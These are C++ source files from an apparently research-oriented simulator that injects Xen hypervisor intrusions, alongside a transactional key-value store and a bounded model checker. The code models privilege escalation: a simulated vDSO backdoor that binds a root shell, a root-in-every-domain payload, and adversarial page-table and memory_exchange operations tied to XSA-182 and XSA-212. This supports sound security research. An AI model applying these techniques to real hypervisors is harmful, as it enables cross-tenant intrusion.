  // ------------------------------------------------------------ hypercalls
  /// Issue a raw numbered hypercall through the dispatch table — the
  /// tracing boundary. All wrappers below funnel through this.
  long hypercall(unsigned nr, hv::HypercallPayload payload);

  long mmu_update(std::span<const hv::MmuUpdate> reqs);
  long mmu_update_one(sim::Paddr slot, std::uint64_t value);
  long memory_exchange(hv::MemoryExchange& exch);
  long arbitrary_access(const hv::ArbitraryAccess& req);
  long console_write(const std::string& line);
  long software_interrupt(unsigned vector);

  /// Clear the directmap L1 entry of `pfn` (required before exchanging it).
  long unmap_pfn(sim::Pfn pfn);

  /// Re-point the directmap L1 entry of `pfn` at its current P2M frame
  /// (used after ballooning a page back in).
  long map_pfn(sim::Pfn pfn);

  // -------------------------------------------------------------- ballooning
  long decrease_reservation(sim::Pfn pfn);
  long populate_physmap(sim::Pfn pfn);

  /// XEN_DOMCTL_destroydomain wrapper (dom0 only).
  long domctl_destroy(hv::DomainId victim);

  // ------------------------------------------------------- grant tables
  long grant_access(hv::GrantRef ref, hv::DomainId peer, sim::Pfn pfn,
                    bool readonly);
  long grant_end_access(hv::GrantRef ref);
  long grant_map(hv::DomainId granter, hv::GrantRef ref,
                 hv::GrantHandle* handle, sim::Mfn* frame);
  long grant_unmap(hv::GrantHandle handle);
  long grant_set_version(unsigned version);
  /// VA of the grant-v2 status window inside the kernel directmap.
  [[nodiscard]] sim::Vaddr grant_status_va(std::uint64_t offset = 0) const {
    return pfn_va(kGrantStatusPfn, offset);
  }

  // ------------------------------------------------------ event channels
  long evtchn_alloc_unbound(hv::DomainId remote, unsigned* port);
  long evtchn_bind(hv::DomainId remote, unsigned remote_port,
                   unsigned* local_port);
  long evtchn_send(unsigned port);
  long evtchn_register_handler(unsigned port);
  long evtchn_mask(unsigned port, bool masked);
  /// Run the event loop once (the guest's upcall entry).
  hv::EventChannelOps::DispatchResult handle_events();

  /// Kernel log (also mirrored to the Xen console ring).
  void printk(const std::string& msg);
  [[nodiscard]] const std::vector<std::string>& dmesg() const {
    return dmesg_;
  }

  /// Number of kernel-level access faults ("BUG: unable to handle page
  /// request") this kernel has taken — the paper's §VII observable for
  /// exploits failing on fixed versions.
  [[nodiscard]] std::uint64_t oops_count() const { return oops_count_; }

  // -------------------------------------------------------------- userland
  /// Run a shell line as `uid`.
  std::string run_command(const std::string& line, int uid);

  /// A user process enters the vDSO (e.g. gettimeofday). If the page has
  /// been backdoored, the implant connects out and binds a root shell.
  void invoke_vdso(int uid);

  void set_network(net::Network* network) { network_ = network; }
  [[nodiscard]] const std::vector<std::shared_ptr<net::ShellSession>>&
  shell_sessions() const {
    return shells_;
  }
  /// Service any pending remote-shell commands.
  void pump_shells();

 private:
  /// Record a kernel access fault with the canonical oops line.
  void kernel_oops(sim::Vaddr va, const char* what);

  hv::Hypervisor* hv_;
  hv::DomainId id_;
  std::string hostname_;
  std::uint64_t nr_pages_;
  std::uint64_t l1_count_;
  std::uint64_t oops_count_ = 0;
  sim::Pfn next_free_{kFirstFreePfn.raw()};
  FileSystem fs_;
  std::vector<std::string> dmesg_;
  net::Network* network_ = nullptr;
  std::vector<std::shared_ptr<net::ShellSession>> shells_;
};

}  // namespace ii::guest
