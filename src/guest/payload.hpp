// Attack payload encoding and the platform's "CPU" for executing it.
//
// Real exploits place machine code in memory and get the CPU to jump there
// with hypervisor privilege. The simulator models injected code as a small
// self-describing structure; the PayloadInterpreter — registered with the
// hypervisor as its code executor — is the stand-in for ring-0 execution.
// The only operation the paper's use cases need is XSA-212-priv's "run a
// shell command as root in every domain", but the encoding leaves room for
// more ops.
#pragma once

#include <cstdint>
#include <optional>
#include <span>
#include <string>

namespace ii::guest {

enum class PayloadOp : std::uint32_t {
  RunCommandAllDomains = 1,  ///< execute `command` as uid 0 in every domain
};

/// Wire format at the start of the payload frame.
struct Payload {
  static constexpr std::uint64_t kMagic = 0x50574E454445ULL;  // "PWNED"
  PayloadOp op = PayloadOp::RunCommandAllDomains;
  std::string command;

  /// Serialize into page-sized storage. Returns bytes written.
  std::size_t encode(std::span<std::uint8_t> out) const;

  /// Decode from frame bytes; nullopt when the magic is absent.
  [[nodiscard]] static std::optional<Payload> decode(
      std::span<const std::uint8_t> in);
};

}  // namespace ii::guest
