// Minimal in-guest shell: just enough POSIX-flavoured behaviour to
// reproduce the observables in the paper's experiment transcripts —
// `whoami && hostname`, `cat /root/root_msg`, and the XSA-212-priv payload
// `echo "|$(id)|@$(hostname)" > /tmp/injector_log`.
#pragma once

#include <map>
#include <optional>
#include <string>

namespace ii::guest {

/// A file in the guest's in-memory filesystem.
struct File {
  int uid = 0;          ///< owner
  std::string content;  ///< bytes (no trailing-newline games)
};

/// Path-keyed in-memory filesystem with one access rule: paths under
/// /root/ are readable and writable by uid 0 only.
class FileSystem {
 public:
  /// Create or overwrite `path`. Returns false when `uid` may not write it.
  bool write(const std::string& path, int uid, std::string content);

  /// Read `path` as `uid`. nullopt when missing or not readable.
  [[nodiscard]] std::optional<std::string> read(const std::string& path,
                                                int uid) const;

  [[nodiscard]] bool exists(const std::string& path) const {
    return files_.contains(path);
  }
  [[nodiscard]] const std::map<std::string, File>& files() const {
    return files_;
  }

 private:
  static bool root_only(const std::string& path);
  std::map<std::string, File> files_;
};

/// Execute one shell line as `uid` against `fs`, on a host named
/// `hostname`. Supports: id, whoami, hostname, echo (with "..." quoting and
/// $(cmd) substitution), cat <path>, `&&` chaining and `> path` redirection.
/// Returns the combined stdout/stderr text.
[[nodiscard]] std::string run_shell(FileSystem& fs,
                                    const std::string& hostname, int uid,
                                    const std::string& line);

}  // namespace ii::guest
