#include "txdb/guest_storage.hpp"

#include <stdexcept>

namespace ii::txdb {

GuestMemoryStorage::GuestMemoryStorage(guest::GuestKernel& guest,
                                       std::uint64_t pages)
    : guest_{&guest} {
  for (std::uint64_t i = 0; i < pages; ++i) {
    const auto pfn = guest.alloc_pfn();
    if (!pfn) throw std::runtime_error{"guest storage: out of guest pages"};
    pfns_.push_back(*pfn);
  }
}

bool GuestMemoryStorage::read(std::uint64_t offset,
                              std::span<std::uint8_t> out) const {
  if (offset > size() || size() - offset < out.size()) return false;
  std::uint64_t done = 0;
  while (done < out.size()) {
    const std::uint64_t at = offset + done;
    const sim::Pfn pfn = pfns_[at / sim::kPageSize];
    const std::uint64_t in_page = sim::kPageSize - at % sim::kPageSize;
    const std::uint64_t chunk = std::min(out.size() - done, in_page);
    if (!guest_->read_virt(guest_->pfn_va(pfn, at % sim::kPageSize),
                           out.subspan(done, chunk))) {
      return false;
    }
    done += chunk;
  }
  return true;
}

bool GuestMemoryStorage::write(std::uint64_t offset,
                               std::span<const std::uint8_t> in) {
  if (offset > size() || size() - offset < in.size()) return false;
  std::uint64_t done = 0;
  while (done < in.size()) {
    const std::uint64_t at = offset + done;
    const sim::Pfn pfn = pfns_[at / sim::kPageSize];
    const std::uint64_t in_page = sim::kPageSize - at % sim::kPageSize;
    const std::uint64_t chunk = std::min(in.size() - done, in_page);
    if (!guest_->write_virt(guest_->pfn_va(pfn, at % sim::kPageSize),
                            in.subspan(done, chunk))) {
      return false;
    }
    done += chunk;
  }
  return true;
}

}  // namespace ii::txdb
