#include "txdb/txdb.hpp"

#include <cstring>
#include <stdexcept>

namespace ii::txdb {

bool VectorStorage::read(std::uint64_t offset,
                         std::span<std::uint8_t> out) const {
  if (offset > bytes_.size() || bytes_.size() - offset < out.size()) {
    return false;
  }
  std::memcpy(out.data(), bytes_.data() + offset, out.size());
  return true;
}

bool VectorStorage::write(std::uint64_t offset,
                          std::span<const std::uint8_t> in) {
  if (offset > bytes_.size() || bytes_.size() - offset < in.size()) {
    return false;
  }
  std::memcpy(bytes_.data() + offset, in.data(), in.size());
  return true;
}

std::uint64_t fnv1a(std::span<const std::uint8_t> bytes) {
  std::uint64_t hash = 0xCBF29CE484222325ULL;
  for (const std::uint8_t b : bytes) {
    hash ^= b;
    hash *= 0x100000001B3ULL;
  }
  return hash;
}

namespace {

/// Log record layout:
///   u32 payload_len  (0 terminates the log)
///   u64 seq
///   u64 checksum     (fnv1a of the payload)
///   payload: u16 n_writes, then per write: u16 klen, u16 vlen, bytes.
struct RecordHeader {
  std::uint32_t payload_len;
  std::uint64_t seq;
  std::uint64_t checksum;
} __attribute__((packed));

std::vector<std::uint8_t> encode_payload(const Transaction& tx) {
  std::vector<std::uint8_t> out;
  const auto put_u16 = [&](std::uint16_t v) {
    out.push_back(static_cast<std::uint8_t>(v));
    out.push_back(static_cast<std::uint8_t>(v >> 8));
  };
  put_u16(static_cast<std::uint16_t>(tx.writes().size()));
  for (const auto& [key, value] : tx.writes()) {
    put_u16(static_cast<std::uint16_t>(key.size()));
    put_u16(static_cast<std::uint16_t>(value.size()));
    out.insert(out.end(), key.begin(), key.end());
    out.insert(out.end(), value.begin(), value.end());
  }
  return out;
}

bool decode_payload(std::span<const std::uint8_t> in,
                    std::map<std::string, std::string>* state) {
  std::size_t pos = 0;
  const auto get_u16 = [&](std::uint16_t* v) {
    if (pos + 2 > in.size()) return false;
    *v = static_cast<std::uint16_t>(in[pos] | in[pos + 1] << 8);
    pos += 2;
    return true;
  };
  std::uint16_t n = 0;
  if (!get_u16(&n)) return false;
  for (std::uint16_t i = 0; i < n; ++i) {
    std::uint16_t klen = 0, vlen = 0;
    if (!get_u16(&klen) || !get_u16(&vlen)) return false;
    if (pos + klen + vlen > in.size()) return false;
    std::string key{reinterpret_cast<const char*>(in.data() + pos), klen};
    pos += klen;
    std::string value{reinterpret_cast<const char*>(in.data() + pos), vlen};
    pos += vlen;
    (*state)[std::move(key)] = std::move(value);
  }
  return pos == in.size();
}

}  // namespace

TransactionalKV::TransactionalKV(Storage& storage, bool format)
    : storage_{&storage} {
  if (format) {
    std::uint8_t super[16] = {};
    const std::uint64_t magic = kMagic;
    std::memcpy(super, &magic, sizeof magic);
    if (!storage_->write(0, super)) {
      throw std::runtime_error{"txdb: cannot format storage"};
    }
    // Terminate the empty log.
    const std::uint32_t zero = 0;
    (void)storage_->write(kLogStart,
                          {reinterpret_cast<const std::uint8_t*>(&zero),
                           sizeof zero});
  } else {
    (void)recover();
  }
}

bool TransactionalKV::commit(const Transaction& tx) {
  const std::vector<std::uint8_t> payload = encode_payload(tx);
  RecordHeader header{};
  header.payload_len = static_cast<std::uint32_t>(payload.size());
  header.seq = next_seq_;
  header.checksum = fnv1a(payload);

  // Append record + a zero terminator for the next slot, then flush-before-
  // ack: only after both writes land does the transaction become visible.
  const std::uint64_t record_at = log_head_;
  const std::uint64_t next_at = record_at + sizeof header + payload.size();
  const std::uint32_t zero = 0;
  if (!storage_->write(record_at,
                       {reinterpret_cast<const std::uint8_t*>(&header),
                        sizeof header}) ||
      !storage_->write(record_at + sizeof header, payload) ||
      !storage_->write(next_at, {reinterpret_cast<const std::uint8_t*>(&zero),
                                 sizeof zero})) {
    return false;  // atomic abort: volatile state untouched
  }
  for (const auto& [key, value] : tx.writes()) state_[key] = value;
  log_head_ = next_at;
  ++committed_;
  ++next_seq_;
  return true;
}

std::optional<std::string> TransactionalKV::get(
    const std::string& key) const {
  auto it = state_.find(key);
  return it == state_.end() ? std::nullopt
                            : std::optional<std::string>{it->second};
}

TransactionalKV::ScanResult TransactionalKV::scan() const {
  ScanResult result{};
  std::uint64_t magic = 0;
  if (!storage_->read(0, {reinterpret_cast<std::uint8_t*>(&magic),
                          sizeof magic}) ||
      magic != kMagic) {
    result.report.log_unreadable = true;
    result.report.notes.push_back("superblock corrupt or unreadable");
    return result;
  }
  std::uint64_t pos = kLogStart;
  std::uint64_t expected_seq = 1;
  while (true) {
    RecordHeader header{};
    if (!storage_->read(pos, {reinterpret_cast<std::uint8_t*>(&header),
                              sizeof header})) {
      result.report.log_unreadable = true;
      result.report.notes.push_back("log unreadable at offset " +
                                    std::to_string(pos));
      break;
    }
    if (header.payload_len == 0) break;  // clean end of log
    std::vector<std::uint8_t> payload(header.payload_len);
    if (header.payload_len > storage_->size() ||
        !storage_->read(pos + sizeof header, payload)) {
      result.report.torn_record_found = true;
      result.report.notes.push_back("record body unreadable at offset " +
                                    std::to_string(pos));
      break;
    }
    // Decode into a scratch map first so a record that fails mid-payload
    // can never leak partial writes into the recovered state (atomicity).
    std::map<std::string, std::string> staged;
    if (fnv1a(payload) != header.checksum ||
        !decode_payload(payload, &staged)) {
      result.report.torn_record_found = true;
      result.report.notes.push_back("checksum mismatch at offset " +
                                    std::to_string(pos) + " (seq " +
                                    std::to_string(header.seq) + ")");
      break;
    }
    if (header.seq != expected_seq) {
      result.report.torn_record_found = true;
      result.report.notes.push_back("sequence gap at offset " +
                                    std::to_string(pos));
      break;
    }
    for (auto& [key, value] : staged) result.state[key] = std::move(value);
    ++result.report.committed_transactions;
    ++expected_seq;
    pos += sizeof header + header.payload_len;
  }
  result.log_end = pos;
  return result;
}

RecoveryReport TransactionalKV::recover() {
  ScanResult result = scan();
  state_ = std::move(result.state);
  log_head_ = result.log_end;
  committed_ = result.report.committed_transactions;
  next_seq_ = committed_ + 1;
  return result.report;
}

RecoveryReport TransactionalKV::verify() const { return scan().report; }

}  // namespace ii::txdb
