// Storage backed by guest memory, accessed through the MMU.
//
// Every read/write translates through the domain's page tables via the
// hypervisor's guest-access path, so a hypervisor-level intrusion (remapped
// pages, corrupted PTEs, direct frame writes) hits the database exactly
// where it would hit a real guest's buffer cache.
#pragma once

#include <vector>

#include "guest/kernel.hpp"
#include "txdb/txdb.hpp"

namespace ii::txdb {

class GuestMemoryStorage final : public Storage {
 public:
  /// Allocates `pages` fresh guest pages to hold the store.
  GuestMemoryStorage(guest::GuestKernel& guest, std::uint64_t pages);

  [[nodiscard]] std::uint64_t size() const override {
    return pfns_.size() * sim::kPageSize;
  }
  [[nodiscard]] bool read(std::uint64_t offset,
                          std::span<std::uint8_t> out) const override;
  [[nodiscard]] bool write(std::uint64_t offset,
                           std::span<const std::uint8_t> in) override;

  /// Backing pages (an intrusion-injection campaign targets these).
  [[nodiscard]] const std::vector<sim::Pfn>& pfns() const { return pfns_; }

 private:
  guest::GuestKernel* guest_;
  std::vector<sim::Pfn> pfns_;
};

}  // namespace ii::txdb
