// A small write-ahead-logged transactional key-value store.
//
// Motivation (paper §III-C): "imagine a transactional business-critical
// system that runs on a public cloud — how can one assess the impact of
// successful intrusions on the hypervisor in the ability of the
// transactional system to ensure the ACID properties?" This module is that
// system: a guest-hosted KV store whose durable medium is guest memory
// accessed *through the MMU*, so hypervisor-level erroneous states (injected
// with the ii::core injector) corrupt it exactly the way a compromised
// hypervisor would corrupt a database's buffers.
//
// Design: an append-only redo log of whole-transaction records, each
// carrying a checksum and a commit marker. Commit = append + flush; recovery
// = scan and replay every intact committed record, stopping at the first
// torn or corrupt one. Atomicity comes from whole-transaction records,
// durability from the flush-before-ack discipline, consistency from the
// checksums, and isolation from strictly serial transactions.
#pragma once

#include <cstdint>
#include <map>
#include <optional>
#include <span>
#include <string>
#include <vector>

namespace ii::txdb {

/// Abstract durable byte store (the "disk").
class Storage {
 public:
  virtual ~Storage() = default;
  [[nodiscard]] virtual std::uint64_t size() const = 0;
  /// Both return false on an I/O fault (e.g. the backing page faulted).
  [[nodiscard]] virtual bool read(std::uint64_t offset,
                                  std::span<std::uint8_t> out) const = 0;
  [[nodiscard]] virtual bool write(std::uint64_t offset,
                                   std::span<const std::uint8_t> in) = 0;
};

/// Plain in-process storage for unit tests and baselines.
class VectorStorage final : public Storage {
 public:
  explicit VectorStorage(std::uint64_t bytes) : bytes_(bytes, 0) {}
  [[nodiscard]] std::uint64_t size() const override { return bytes_.size(); }
  [[nodiscard]] bool read(std::uint64_t offset,
                          std::span<std::uint8_t> out) const override;
  [[nodiscard]] bool write(std::uint64_t offset,
                           std::span<const std::uint8_t> in) override;
  /// Direct corruption hook for fault-injection tests.
  [[nodiscard]] std::vector<std::uint8_t>& bytes() { return bytes_; }

 private:
  std::vector<std::uint8_t> bytes_;
};

/// 64-bit FNV-1a, the log's integrity checksum.
[[nodiscard]] std::uint64_t fnv1a(std::span<const std::uint8_t> bytes);

/// One staged transaction. Writes become visible (and durable) only when
/// commit() succeeds.
class Transaction {
 public:
  void put(std::string key, std::string value) {
    writes_[std::move(key)] = std::move(value);
  }
  [[nodiscard]] const std::map<std::string, std::string>& writes() const {
    return writes_;
  }

 private:
  std::map<std::string, std::string> writes_;
};

/// Recovery/integrity verdict.
struct RecoveryReport {
  std::uint64_t committed_transactions = 0;  ///< intact records replayed
  bool torn_record_found = false;   ///< a record failed its checksum
  bool log_unreadable = false;      ///< storage faulted during the scan
  std::vector<std::string> notes;
};

class TransactionalKV {
 public:
  /// Format `storage` (writes the superblock) or attach to an existing log
  /// when `format` is false.
  explicit TransactionalKV(Storage& storage, bool format = true);

  /// Apply and durably log a transaction. False when storage failed — in
  /// which case the transaction is NOT visible (atomic abort).
  [[nodiscard]] bool commit(const Transaction& tx);

  [[nodiscard]] std::optional<std::string> get(const std::string& key) const;
  [[nodiscard]] std::uint64_t committed_count() const { return committed_; }

  /// Drop volatile state and rebuild from the log (crash recovery).
  RecoveryReport recover();

  /// Scan the log without mutating state: the integrity check a
  /// post-injection audit runs.
  [[nodiscard]] RecoveryReport verify() const;

 private:
  static constexpr std::uint64_t kMagic = 0x4949545844423031ULL;  // IITXDB01
  static constexpr std::uint64_t kLogStart = 64;

  struct ScanResult {
    RecoveryReport report;
    std::map<std::string, std::string> state;
    std::uint64_t log_end = kLogStart;
  };
  [[nodiscard]] ScanResult scan() const;

  Storage* storage_;
  std::map<std::string, std::string> state_;
  std::uint64_t log_head_ = kLogStart;
  std::uint64_t committed_ = 0;
  std::uint64_t next_seq_ = 1;
};

}  // namespace ii::txdb
