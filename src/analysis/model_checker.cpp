// Bounded model checking over the real validation engine (see
// model_checker.hpp for the exploration model).
//
// Layout of this file:
//   - machine construction for the bounded configuration
//   - the operation alphabet (enumerated per state, deterministic order)
//   - operation application through the public hypercall surface
//   - state diffing (counterexample readability)
//   - erroneous-state classification over the shared SystemWalk
//   - the BFS driver
#include "analysis/model_checker.hpp"

#include <algorithm>
#include <atomic>
#include <cstdio>
#include <cstring>
#include <deque>
#include <functional>
#include <memory>
#include <mutex>
#include <set>
#include <thread>
#include <unordered_set>
#include <utility>

#include "hv/audit.hpp"
#include "hv/errors.hpp"
#include "hv/layout.hpp"
#include "hv/snapshot.hpp"
#include "obs/span.hpp"
#include "obs/status.hpp"

namespace ii::analysis {

namespace {

std::string hex(std::uint64_t v) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "0x%llx", static_cast<unsigned long long>(v));
  return buf;
}

int level_of(hv::PageType t) {
  switch (t) {
    case hv::PageType::L1: return 1;
    case hv::PageType::L2: return 2;
    case hv::PageType::L3: return 3;
    case hv::PageType::L4: return 4;
    default: return 0;
  }
}

// ------------------------------------------------------------------ machine

/// The bounded configuration under test: one machine, dom0, and the guests
/// that issue every enumerated operation.
struct Machine {
  sim::PhysicalMemory mem;
  hv::Hypervisor vmm;
  std::vector<hv::DomainId> guests;

  explicit Machine(const ModelCheckConfig& config)
      : mem{config.machine_frames},
        vmm{mem, hv::VersionPolicy::for_version(config.version)} {
    (void)vmm.create_domain("dom0", /*privileged=*/true, config.dom0_pages);
    for (unsigned i = 0; i < config.guest_domains; ++i) {
      guests.push_back(vmm.create_domain("guest" + std::to_string(i + 1),
                                         /*privileged=*/false,
                                         config.domain_pages));
    }
  }
};

// ----------------------------------------------------------------- alphabet

/// Enumerate the operation alphabet for the current state, in a fixed
/// deterministic order. The palette is curated but adversarial: for every
/// live page table it includes clears, remaps, read-only and writable
/// (self-)maps, superpage attempts, reserved-slot writes, pin/unpin and
/// baseptr switches, and exchange with benign and hostile output pointers —
/// the full guest-issuable surface the paper's three memory XSAs sit on.
std::vector<Op> enumerate_ops(const hv::Hypervisor& vmm,
                              const ModelCheckConfig& config,
                              const std::vector<hv::DomainId>& guests) {
  using Kind = Op::Kind;
  constexpr std::uint64_t kP = sim::Pte::kPresent;
  constexpr std::uint64_t kW = sim::Pte::kWritable;
  constexpr std::uint64_t kU = sim::Pte::kUser;
  constexpr std::uint64_t kS = sim::Pte::kPageSize;

  std::vector<Op> ops;
  for (const hv::DomainId id : guests) {
    const hv::Domain& dom = vmm.domain(id);
    if (dom.crashed()) continue;
    const std::string who = "d" + std::to_string(id);

    const sim::Mfn cr3 = dom.cr3();
    const auto base = dom.p2m(sim::Pfn{0});
    const auto data = dom.p2m(hv::kFirstFreePfn);
    const sim::Pfn data2_pfn{hv::kFirstFreePfn.raw() + 1};
    const sim::Pfn l1_pfn{config.domain_pages - 4};

    // Live page tables the domain owns, in MFN order.
    struct Table {
      sim::Mfn mfn;
      int level;
    };
    std::vector<Table> tables;
    for (std::uint64_t m = 0; m < vmm.frames().frame_count(); ++m) {
      const hv::PageInfo& pi = vmm.frames().info(sim::Mfn{m});
      if (pi.owner == id && hv::is_pagetable_type(pi.type) && pi.validated) {
        tables.push_back(Table{sim::Mfn{m}, level_of(pi.type)});
      }
    }

    const auto add_mmu = [&](const Table& t, unsigned slot, std::uint64_t val,
                             const std::string& what) {
      Op op;
      op.kind = Kind::MmuUpdate;
      op.caller = id;
      op.ptr = sim::mfn_to_paddr(t.mfn).raw() + 8ULL * slot;
      op.val = val;
      op.label = who + ": mmu_update L" + std::to_string(t.level) + "[mfn " +
                 hex(t.mfn.raw()) + "][" + std::to_string(slot) + "] <- " +
                 what;
      ops.push_back(std::move(op));
    };
    const auto pte = [](sim::Mfn f, std::uint64_t flags) {
      return sim::Pte::make(f, flags).raw();
    };

    for (const Table& t : tables) {
      switch (t.level) {
        case 1:
          for (const unsigned slot :
               {static_cast<unsigned>(hv::kFirstFreePfn.raw()),
                static_cast<unsigned>(l1_pfn.raw())}) {
            add_mmu(t, slot, 0, "clear");
            if (data) {
              add_mmu(t, slot, pte(*data, kP | kW | kU), "rw data page");
              add_mmu(t, slot, pte(*data, kP | kU), "ro data page");
            }
            add_mmu(t, slot, pte(t.mfn, kP | kW | kU), "rw map of this L1");
            add_mmu(t, slot, pte(cr3, kP | kU), "ro map of own L4");
            add_mmu(t, slot, pte(cr3, kP | kW | kU), "rw map of own L4");
            add_mmu(t, slot, pte(sim::Mfn{0}, kP | kW | kU),
                    "rw map of xen frame 0");
          }
          break;
        case 2:
          add_mmu(t, 0, 0, "clear kernel L1 link");
          if (base) {
            add_mmu(t, 0, pte(*base, kP | kW | kU | kS),
                    "2MiB PSE superpage over own region");
          }
          if (data) {
            add_mmu(t, 0, pte(*data, kP | kU), "link data page as L1");
          }
          break;
        case 3:
          add_mmu(t, 0, 0, "clear kernel L2 link");
          if (data) {
            add_mmu(t, 0, pte(*data, kP | kU), "link data page as L2");
          }
          if (base) {
            add_mmu(t, 0, pte(*base, kP | kW | kU | kS), "1GiB PSE attempt");
          }
          break;
        case 4: {
          const unsigned kernel_slot = sim::level_index_of(
              sim::Vaddr{hv::kGuestKernelBase}, sim::PtLevel::L4);
          add_mmu(t, kernel_slot, 0, "clear kernel L3 link");
          if (data) {
            add_mmu(t, kernel_slot, pte(*data, kP | kU),
                    "link data page as L3");
          }
          add_mmu(t, hv::kLinearPtSlot, 0, "clear linear slot");
          add_mmu(t, hv::kLinearPtSlot, pte(cr3, kP | kU),
                  "ro linear self map");
          add_mmu(t, hv::kLinearPtSlot, pte(cr3, kP | kW | kU),
                  "RW linear self map (XSA-182 flip)");
          if (data) {
            add_mmu(t, hv::kLinearPtSlot, pte(*data, kP | kU),
                    "ro data page in linear slot");
          }
          add_mmu(t, hv::kXenFirstReservedSlot, pte(cr3, kP | kU),
                  "ro self map in xen text slot");
          break;
        }
        default: break;
      }
    }

    // Pin / unpin / baseptr.
    const auto add_ext = [&](Kind kind, sim::Mfn mfn, int level,
                             const std::string& what) {
      Op op;
      op.kind = kind;
      op.caller = id;
      op.mfn = mfn;
      op.level = level;
      op.label = who + ": " + what;
      ops.push_back(std::move(op));
    };
    if (data) {
      add_ext(Kind::Pin, *data, 1, "pin data mfn " + hex(data->raw()) + " as L1");
      add_ext(Kind::Pin, *data, 4, "pin data mfn " + hex(data->raw()) + " as L4");
    }
    for (const Table& t : tables) {
      if (t.level == 1) {
        add_ext(Kind::Pin, t.mfn, 1, "re-pin L1 mfn " + hex(t.mfn.raw()));
        break;
      }
    }
    std::set<std::uint64_t> pinned;
    for (const sim::Mfn m : dom.pinned_tables()) pinned.insert(m.raw());
    for (const std::uint64_t m : pinned) {
      add_ext(Kind::Unpin, sim::Mfn{m}, 0, "unpin mfn " + hex(m));
    }
    for (const Table& t : tables) {
      if (t.level == 4) {
        add_ext(Kind::NewBaseptr, t.mfn, 4,
                "new_baseptr mfn " + hex(t.mfn.raw()));
      }
    }

    // memory_exchange with benign and hostile output pointers.
    if (data) {
      const auto add_exchange = [&](sim::Vaddr out, const std::string& what) {
        Op op;
        op.kind = Kind::Exchange;
        op.caller = id;
        op.pfn = hv::kFirstFreePfn;
        op.out = out;
        op.label = who + ": exchange pfn " +
                   std::to_string(hv::kFirstFreePfn.raw()) + ", out = " + what;
        ops.push_back(std::move(op));
      };
      add_exchange(hv::guest_directmap_vaddr(data2_pfn), "own data page");
      add_exchange(hv::directmap_vaddr(vmm.idt_base()),
                   "hypervisor IDT (XSA-212 target)");
      add_exchange(sim::Vaddr{hv::kXenTextBase}, "xen text");
      add_exchange(hv::guest_directmap_vaddr(l1_pfn), "own RO-mapped L1 page");
    }

    // Grant ops (gated: the v2->v1 downgrade leak is pre-4.13 by design).
    if (config.include_grant_ops) {
      const auto add_grant = [&](Kind kind, unsigned version, unsigned gref,
                                 const std::string& what) {
        Op op;
        op.kind = kind;
        op.caller = id;
        op.version = version;
        op.gref = gref;
        op.peer = hv::kDom0;
        op.pfn = hv::kFirstFreePfn;
        op.label = who + ": " + what;
        ops.push_back(std::move(op));
      };
      add_grant(Kind::GrantSetVersion, 2, 0, "grant set_version 2");
      add_grant(Kind::GrantSetVersion, 1, 0, "grant set_version 1");
      add_grant(Kind::GrantAccess, 0, 0, "grant ref 0 to dom0");
      add_grant(Kind::GrantEndAccess, 0, 0, "grant end_access ref 0");
    }
  }
  return ops;
}

long apply_op(hv::Hypervisor& vmm, const Op& op) {
  using Kind = Op::Kind;
  switch (op.kind) {
    case Kind::MmuUpdate: {
      const hv::MmuUpdate req{op.ptr | hv::kMmuNormalPtUpdate, op.val};
      return vmm.hypercall_mmu_update(op.caller, std::span{&req, 1});
    }
    case Kind::Pin: {
      const auto cmd = static_cast<hv::MmuExtCmd>(
          static_cast<int>(hv::MmuExtCmd::PinL1Table) + op.level - 1);
      return vmm.hypercall_mmuext_op(op.caller, hv::MmuExtOp{cmd, op.mfn});
    }
    case Kind::Unpin:
      return vmm.hypercall_mmuext_op(
          op.caller, hv::MmuExtOp{hv::MmuExtCmd::UnpinTable, op.mfn});
    case Kind::NewBaseptr:
      return vmm.hypercall_mmuext_op(
          op.caller, hv::MmuExtOp{hv::MmuExtCmd::NewBaseptr, op.mfn});
    case Kind::Exchange: {
      hv::MemoryExchange exch{{op.pfn}, op.out, 0};
      return vmm.hypercall_memory_exchange(op.caller, exch);
    }
    case Kind::GrantSetVersion:
      return vmm.grants().set_version(op.caller, op.version);
    case Kind::GrantAccess:
      return vmm.grants().grant_access(op.caller, op.gref, op.peer, op.pfn,
                                       /*readonly=*/false);
    case Kind::GrantEndAccess:
      return vmm.grants().end_access(op.caller, op.gref);
  }
  return hv::kEINVAL;
}

// --------------------------------------------------------------- state diff

/// Read-only view of a machine state expressed as (root snapshot, delta
/// against it): resolves frame bytes and PageInfo without materializing a
/// full snapshot, and exposes the delta's dirty sets so two views over the
/// same root can be diffed in O(changed) instead of O(machine).
class StateView {
 public:
  StateView(const hv::HvSnapshot& base, const hv::HvDelta& delta)
      : base_{&base}, delta_{&delta} {}

  [[nodiscard]] const std::uint8_t* frame(std::uint64_t m) const {
    const auto& fs = delta_->mem_frames;
    const auto it = std::lower_bound(fs.begin(), fs.end(), m);
    if (it != fs.end() && *it == m) {
      return delta_->mem_bytes.data() +
             std::size_t(it - fs.begin()) * sim::kPageSize;
    }
    return base_->memory.data() + m * sim::kPageSize;
  }
  [[nodiscard]] std::uint64_t frame_u64(std::uint64_t m, unsigned slot) const {
    std::uint64_t v = 0;
    std::memcpy(&v, frame(m) + 8ULL * slot, sizeof v);
    return v;
  }
  [[nodiscard]] const hv::PageInfo& page_info(std::uint64_t m) const {
    const auto& fs = delta_->frames;  // ascending by mfn (capture order)
    const auto it = std::lower_bound(
        fs.begin(), fs.end(), m,
        [](const auto& entry, std::uint64_t mfn) { return entry.first < mfn; });
    if (it != fs.end() && it->first == m) return it->second;
    return base_->frames[m];
  }

  /// MFNs whose contents may differ from the shared root.
  [[nodiscard]] const std::vector<std::uint64_t>& dirty_frames() const {
    return delta_->mem_frames;
  }
  /// MFNs whose PageInfo differs from the shared root.
  [[nodiscard]] std::vector<std::uint64_t> changed_page_infos() const {
    std::vector<std::uint64_t> out;
    out.reserve(delta_->frames.size());
    for (const auto& [m, pi] : delta_->frames) out.push_back(m);
    return out;
  }

  [[nodiscard]] const std::vector<hv::Domain>& domains() const {
    return delta_->domains;
  }
  [[nodiscard]] const hv::GrantOps::State& grants() const {
    return delta_->grants;
  }
  [[nodiscard]] bool crashed() const { return delta_->crashed; }
  [[nodiscard]] bool cpu_hung() const { return delta_->cpu_hung; }

 private:
  const hv::HvSnapshot* base_;
  const hv::HvDelta* delta_;
};

/// Ascending union of two sorted MFN lists.
std::vector<std::uint64_t> merge_sorted(const std::vector<std::uint64_t>& a,
                                        const std::vector<std::uint64_t>& b) {
  std::vector<std::uint64_t> out;
  out.reserve(a.size() + b.size());
  std::set_union(a.begin(), a.end(), b.begin(), b.end(),
                 std::back_inserter(out));
  return out;
}

